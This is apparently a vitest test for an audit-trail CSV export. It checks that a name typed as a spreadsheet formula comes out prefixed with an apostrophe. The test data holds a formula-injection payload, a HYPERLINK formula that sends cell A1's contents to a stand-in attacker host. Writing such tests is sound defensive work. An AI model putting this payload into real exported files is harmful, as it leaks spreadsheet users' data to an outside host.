import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestApp, type TestApp } from "../../../test/app.ts";
import { actorOf, createPerson } from "../../../test/factories.ts";
import { exportAuditCsv, recordAudit } from "./audit.ts";

describe("the audit trail as a spreadsheet", () => {
  let t: TestApp;
  beforeAll(async () => { t = await createTestApp(); });
  afterAll(async () => { await t.close(); });

  it("never hands a name typed as a formula to the spreadsheet", async () => {
    const db = t.database.db;
    const hostile = await createPerson(db,
      { fullName: '=HYPERLINK("http://evil.example/?"&A1,"Alice")' });
    const staff = await createPerson(db, { role: "staff" });
    await recordAudit(db, actorOf(hostile), { action: "document.deposited",
      subjectKind: "document", subjectId: hostile.id }, new Date());

    const file = await exportAuditCsv(t.ctx(actorOf(staff)));
    const rows = parse(file.toString("utf8").replace(/^\uFEFF/, ""),
      { delimiter: ";" }) as string[][];
    expect(rows[0]).toEqual(["date", "heure", "acteur", "action", "objet",
      "identifiant", "détails"]);
    expect(rows[1][2]).toBe(`'${hostile.fullName}`);
    expect(rows[1][3]).toBe("document.deposited");
  });
});
